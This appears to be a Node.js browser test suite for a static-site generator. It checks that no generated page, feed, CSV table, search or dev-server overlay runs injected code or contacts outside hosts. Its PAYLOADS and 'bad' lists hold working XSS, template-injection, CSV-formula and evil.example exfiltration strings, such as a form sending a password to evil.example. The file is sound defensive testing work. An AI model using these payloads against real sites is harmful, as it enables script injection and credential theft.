// Every hostile bank of the specs, and one with a payload in every place, in the theme that readers get: no page, feed, table or search runs anything,
// asks for anything elsewhere or holds what our HTML never holds, with the policy and without it, on a host and as files, and neither does the overlay of
// `serve`. `SWEEP=all` looks at every page (tests/run --all), otherwise at a sample.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createServer } from 'node:http';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, extname, join, normalize } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { launch } from './support.mjs';

const ALL = process.env.SWEEP === 'all';
const SPEC = fileURLToPath(new URL('../spec/hostile.md', import.meta.url));
const SITE = 'base_url = "https://example.org/"\nlanguages = ["sv", "en"]\ntitle = "Bank"\n';
const TYPES = { '.html': 'text/html; charset=utf-8', '.css': 'text/css', '.js': 'text/javascript', '.svg': 'image/svg+xml', '.xml': 'text/xml', '.csv': 'text/csv', '.png': 'image/png' };

/** What somebody would write who means harm. Each would open a dialogue or ask evil.example. */
const PAYLOADS = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '"><script>alert(1)</script>', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)',
  '</title><script>alert(1)</script>', '</textarea><img src=x onerror=alert(1)>', '</script><script>alert(1)</script>', '<!--><img src=x onerror=alert(1)>', ']]><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<link rel=stylesheet href=https://evil.example/a.css>',
  '<form action=https://evil.example><input name=password>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[a](javascript:alert(1))', '![a](https://evil.example/a.png)', '<javascript:alert(1)>', '[a](data:text/html,<script>alert(1)</script>)', '[a]: javascript:alert(1)\n[a]', '{{ 7*7 }}{% raw %}', '${alert(1)}', '`${alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}', '&lt;img src=x onerror=alert(1)&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '=HYPERLINK("https://evil.example")', 'a;=1+1', '＝1+1', '__proto__', 'constructor',
  'W'.repeat(118), '\u2028alert(1)\u2029', 'a"style="background:url(https://evil.example)', '<style>@import "https://evil.example/a.css";</style>', '<details open ontoggle=alert(1)>', '<video src=x onerror=alert(1)>',
];

/** A bank with each payload in every place that an entry has, and every view of it. */
function everywhere() {
  const kinds = ['text', 'markdown', 'url', 'date', 'number'];
  const fields = kinds.map((kind) => `  ${kind}s: {kind: ${kind}, label: ${kind}}`).join('\n');
  const files = {
    'site.toml': SITE,
    'content/things/_collection.md': `---\nlabel: Saker\nsingular: Sak\npath: saker\nfields:\n  title: {kind: text, as: title, required: true, label: Namn}\n  summary: {kind: text, as: summary, label: Kort}\n${fields}\n  parts: {kind: records, label: Delar, fields: {part: {kind: text, label: Del}}}\n  kin: {kind: refs, to: things, label: Släkt}\n---\n`,
  };
  PAYLOADS.forEach((payload, number) => {
    const text = JSON.stringify(payload);
    files[`content/things/t-${number}.md`] = `---\ntitle: ${text}\nsummary: ${text}\ntexts: {value: ${text}, place: ${text}, note: ${text}}\nmarkdowns: ${text}\nurls: ${number % 3 ? `https://example.org/?${encodeURIComponent(payload)}` : text}\nparts: [{part: ${text}}]\nkin: [t-${(number + 1) % PAYLOADS.length}]\n---\n${payload}\n\n## ${payload}\n\n[${payload}](t-0.md "${payload}")\n\n\`\`\`${payload}\n${payload}\n\`\`\`\n\n[^1]\n\n[^1]: ${payload}\n`;
  });
  const views = ['table, of: things, columns: [summary, texts, markdowns, urls, parts]', 'matrix, of: things, rows: entry, columns: kin', 'compare, of: things', 'coverage, of: things', 'glossary, of: things', 'kit, of: things'];
  views.forEach((view, number) => (files[`content/pages/v-${number}.md`] = `---\ntitle: Vy ${number}\nview: {kind: ${view}}\n---\n`));
  return files;
}

/** The banks of the specs, without their themes. */
function specs() {
  const blocks = readFileSync(SPEC, 'utf8').split('\n````bank\n').slice(1).map((block) => block.split('\n````')[0]);
  return blocks.map((block) => {
    const files = { 'site.toml': SITE };
    for (const file of `\n${block}`.split('\n=== ').slice(1)) {
      const end = file.indexOf('\n');
      const [path, text] = end < 0 ? [file, ''] : [file.slice(0, end), file.slice(end + 1)];
      if (/^(themes|templates)\//.test(path)) continue;
      files[path] = path === 'site.toml' ? text.replace(/^theme = .*$/m, '') : `${text}\n`;
    }
    return files;
  });
}

/** What a page holds that ours never do. Runs in the page. */
function strange() {
  const found = [];
  if (globalThis.ran) found.push(`ran: ${globalThis.ran}`);
  const plain = (address) => /^(https?|mailto|tel|file):/.test(address) || address === '';
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName;
    const say = (what) => found.push(`${what}: ${element.outerHTML.slice(0, 120)}`);
    if (['iframe', 'object', 'embed', 'base', 'applet', 'frame', 'foreignobject', 'math', 'style', 'video', 'audio', 'portal'].includes(name)) say('element');
    if (name === 'script' && (!element.src || new URL(element.src).host !== location.host)) say('script');
    if (name === 'meta' && element.httpEquiv.toLowerCase() === 'refresh' && /evil|:/.test(element.content.replace(/url=(https:\/\/example\.org|file:)/, ''))) say('refresh');
    for (const { name: key, value } of element.attributes) {
      if (/^on/i.test(key) || key === 'srcdoc' || key === 'formaction' || key === 'ping') say('attribute');
      if (key === 'style' && /url|expression|import/i.test(value)) say('style');
      if (['href', 'src', 'action', 'xlink:href'].includes(key) && !value.startsWith('#')) {
        if (!plain(new URL(value, document.baseURI).protocol) && !(name === 'a' || name === 'link')) say('address');
        if (/^\s*(javascript|data|vbscript):/i.test(value)) say('address');
        if (name === 'form' && new URL(value, document.baseURI).host !== location.host) say('form');
      }
    }
  }
  const ids = [...document.querySelectorAll('[id]')].map(({ id }) => id);
  const twice = ids.filter((id, place) => ids.indexOf(id) !== place);
  if (twice.length) found.push(`ids twice: ${twice}`);
  if (!document.querySelector('main') && !document.querySelector('meta[http-equiv=refresh]')) found.push('no main part');
  return found;
}

/** Cells that a spreadsheet would calculate; numbers are none. */
function formulas(csv) {
  const cells = csv.replace(/^\ufeff/, '').match(/"(?:[^"]|"")*"|[^,\r\n]+/g) ?? [];
  const plain = cells.map((cell) => cell.replace(/^"|"$/g, ''));
  return plain.filter((cell) => cell.split(/[;\t]\s*/).some((part) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(part) && !/^-?[\d.]+$/.test(part)));
}

/** A folder as a host sends it, with its policy. */
function host(folder) {
  const policy = readFileSync(join(folder, '_headers'), 'utf8').match(/Content-Security-Policy: (.*)/)[1];
  const server = createServer((request, response) => {
    const file = normalize(join(folder, decodeURIComponent(new URL(request.url, 'http://localhost').pathname)));
    const whole = file.endsWith('/') ? join(file, 'index.html') : file;
    const there = whole.startsWith(folder) && existsSync(whole) && statSync(whole).isFile();
    response.writeHead(there ? 200 : 404, { 'Content-Type': TYPES[extname(whole)] ?? 'application/octet-stream', 'Content-Security-Policy': policy, 'X-Content-Type-Options': 'nosniff' });
    response.end(there ? readFileSync(whole) : '');
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ origin: `http://127.0.0.1:${/** @type {any} */ (server.address()).port}`, stop: () => (server.closeAllConnections(), server.close()) })));
}

function write(files) {
  const bank = mkdtempSync(join(tmpdir(), 'exempelbank-sweep-'));
  for (const [path, text] of Object.entries(files)) {
    const file = join(bank, path);
    try {
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, text);
    } catch (error) {
      // A name that the disk does not take is no way in.
      if (!['ENAMETOOLONG', 'EINVAL', 'ENOENT', 'EISDIR', 'ENOTDIR'].includes(error.code)) throw error;
    }
  }
  return bank;
}

let browser;
before(async () => (browser = await launch()));
after(() => browser?.close());

/** A page that notes what runs and what it asks for elsewhere. */
async function watched(bypassCSP, home) {
  const context = await browser.newContext({ bypassCSP });
  await context.addInitScript(() => {
    for (const name of ['alert', 'confirm', 'prompt', 'print']) globalThis[name] = (said) => (globalThis.ran = `${name} ${said}`);
  });
  const page = await context.newPage();
  const trouble = [];
  page.on('dialog', (dialog) => (trouble.push(`dialogue: ${dialog.message()}`), dialog.dismiss()));
  page.on('request', (request) => request.url().startsWith(home) || trouble.push(`asks ${request.url()}`));
  return { page, trouble };
}

const listed = (folder, ending) => readdirSync(folder, { recursive: true }).map((path) => String(path).replaceAll('\\', '/')).filter((path) => path.endsWith(ending)).sort();

/** Looks at every page of a folder, or at one of several kinds; how many there were. */
async function look(folder, home, bypassCSP, every) {
  const { page, trouble } = await watched(bypassCSP, home);
  const pages = listed(folder, '.html').filter((_, number) => number % every === 0);
  for (const path of pages) {
    const address = path.split('/').map(encodeURIComponent).join('/');
    await page.goto(`${home}/${address}`, { waitUntil: 'load' });
    // One long word is no reason to scroll a page sideways.
    const wide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth).catch(() => false);
    if (wide) trouble.push(`${path}: scrolls sideways`);
    trouble.push(...(await page.evaluate(strange).catch((error) => (/context|navigat/.test(String(error)) ? [] : [String(error)]))).map((what) => `${path}: ${what}`));
  }
  await page.context().close();
  assert.deepEqual(trouble.slice(0, 10), [], `policy ${bypassCSP ? 'off' : 'on'}, ${home}`);
  return pages.length;
}

/** Feeds, sitemaps and tables. */
async function lookAtFiles(folder) {
  const { page } = await watched(true, 'about:');
  for (const path of listed(folder, '.xml')) {
    const wrong = await page.evaluate((text) => new DOMParser().parseFromString(text, 'text/xml').querySelector('parsererror, script, iframe')?.textContent, readFileSync(join(folder, path), 'utf8'));
    assert.equal(wrong, undefined, path);
  }
  await page.context().close();
  for (const path of listed(folder, '.csv').filter((path) => !path.startsWith('static/'))) assert.deepEqual(formulas(readFileSync(join(folder, path), 'utf8')), [], path);
}

async function sweep(files, every) {
  const bank = write(files);
  let count = 0;
  try {
    for (const offline of [false, true]) {
      const folder = join(bank, offline ? 'offline' : 'site');
      const built = spawnSync(process.env.EXEMPELBANK, ['--root', bank, 'build', '--keep-going', '--date', '2026-11-20', '--out', folder, ...(offline ? ['--offline'] : [])], { encoding: 'utf8' });
      if (!existsSync(folder)) {
        assert.match(built.stderr, /no page could be made/);
        continue;
      }
      await lookAtFiles(folder);
      const { origin, stop } = offline ? { origin: pathToFileURL(folder).href, stop() {} } : await host(folder);
      try {
        for (const bypassCSP of [true, false]) count += await look(folder, origin, bypassCSP, every);
      } finally {
        stop();
      }
    }
  } finally {
    rmSync(bank, { recursive: true });
  }
  return count;
}

test('what no page of ours holds is seen', async () => {
  const bad = [
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<p onclick="x">a</p>', '<iframe></iframe>', '<a href="javascript:alert(1)">a</a>', '<a href=" data:text/html,a">a</a>',
    '<p style="background:url(https://evil.example)">a</p>', '<form action="https://evil.example"></form>', '<base href="https://evil.example">', '<style>a{}</style>', '<p id="a"></p><p id="a"></p>',
    '<meta http-equiv="refresh" content="9;url=https://evil.example">', '<script src="https://evil.example/a.js"></script>', '<object></object>', '<math></math>', '<button formaction="/a">a</button>',
  ];
  const server = createServer((request, response) => {
    const number = new URL(request.url, 'http://localhost').searchParams.get('n');
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.end(`<!doctype html><main>${number === null ? '<p id="b">a</p><a href="/a">a</a>' : bad[Number(number)]}</main>`);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined)));
  const home = `http://127.0.0.1:${/** @type {any} */ (server.address()).port}`;
  const { page, trouble } = await watched(true, home);
  try {
    await page.goto(`${home}/`);
    assert.deepEqual([...(await page.evaluate(strange)), ...trouble], []);
    for (const number of bad.keys()) {
      await page.goto(`${home}/?n=${number}`);
      assert.notDeepEqual(await page.evaluate(strange), [], bad[number]);
    }
    assert.ok(trouble.some((what) => what.includes('asks https://evil.example')), String(trouble));
  } finally {
    await page.context().close();
    server.closeAllConnections();
    server.close();
  }
  assert.deepEqual(formulas('\ufeffa,=1\r\n"b;=1",+c\r\n-5,"x, y"\r\n＝1,\'=1\r\n'), ['=1', 'b;=1', '+c', '＝1']);
});

test('the hostile banks of the specs do nothing in a browser', { timeout: 1_200_000 }, async () => {
  const banks = specs();
  assert.ok(banks.length > 12, `${banks.length} banks`);
  let count = 0;
  for (const bank of banks.filter((_, number) => ALL || number % 5 === 1)) count += await sweep(bank, ALL ? 1 : 5);
  assert.ok(count > (ALL ? 500 : 20), `${count} pages`);
});

test('a payload in every place does nothing in a browser', { timeout: 1_200_000 }, async () => {
  const count = await sweep(everywhere(), ALL ? 1 : 17);
  assert.ok(count > (ALL ? 300 : 20), `${count} pages`);
});

test('neither the search nor the overlay of serve does what a stranger wrote', { timeout: 300_000 }, async () => {
  const bank = write(everywhere());
  const server = spawn(process.env.EXEMPELBANK, ['--root', bank, 'serve', '--port', '0'], { stdio: ['ignore', 'ignore', 'pipe'] });
  try {
    let origin;
    for await (const line of createInterface({ input: server.stderr })) {
      origin = line.match(/http:\/\/[^/\s]+/)?.[0];
      if (origin) break;
    }
    server.stderr.resume();
    const { page, trouble } = await watched(true, origin);
    await page.goto(`${origin}/saker/`);
    await page.waitForSelector('exempelbank-problems', { state: 'attached', timeout: 60_000 });
    trouble.push(...(await page.evaluate(strange)).filter((what) => !what.includes('__exempelbank')));
    for (const payload of PAYLOADS.filter((_, number) => ALL || number % 4 === 0)) {
      await page.fill('#site-search-q', payload.slice(0, 100));
      await page.waitForTimeout(150);
      const said = await page.evaluate(strange);
      trouble.push(...said.filter((what) => !what.includes('__exempelbank')).map((what) => `${payload}: ${what}`));
      await page.goto(`${origin}/sok/?q=${encodeURIComponent(payload)}`);
      trouble.push(...(await page.evaluate(strange)).filter((what) => !what.includes('__exempelbank')).map((what) => `${payload}: ${what}`));
      await page.goto(`${origin}/saker/`);
    }
    assert.deepEqual(trouble.slice(0, 10), []);
    await page.context().close();
  } finally {
    server.kill();
    rmSync(bank, { recursive: true });
  }
});
